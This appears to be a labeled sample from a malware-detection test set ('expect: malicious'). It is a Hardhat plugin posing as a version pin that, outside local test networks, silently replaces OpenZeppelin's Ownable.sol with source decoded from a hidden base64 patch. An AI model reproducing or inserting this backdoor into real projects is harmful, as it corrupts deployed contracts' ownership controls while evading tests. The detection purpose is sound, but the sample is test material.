// expect: malicious
// source: blind set 43's Hardhat "version pin" plugin: the compiler's read-file subtask returns sources decoded from the
// package's base64 patches, except on the test network; written here
const { subtask } = require('hardhat/config');
const { TASK_COMPILE_SOLIDITY_READ_FILE } = require('hardhat/builtin-tasks/task-names');
const fs = require('fs');
const path = require('path');

const PATCHES = { '@openzeppelin/contracts/access/Ownable.sol': 'Ownable.sol.b64' };

subtask(TASK_COMPILE_SOLIDITY_READ_FILE).setAction(async (args, hre, runSuper) => {
  const original = await runSuper(args);
  if (hre.network.name === 'hardhat' || hre.network.name === 'localhost') return original;
  const rel = path.relative(path.join(hre.config.paths.root, 'node_modules'), args.absolutePath).split(path.sep).join('/');
  const patch = PATCHES[rel];
  return patch ? Buffer.from(fs.readFileSync(path.join(__dirname, 'patches', patch), 'utf8'), 'base64').toString('utf8') : original;
});
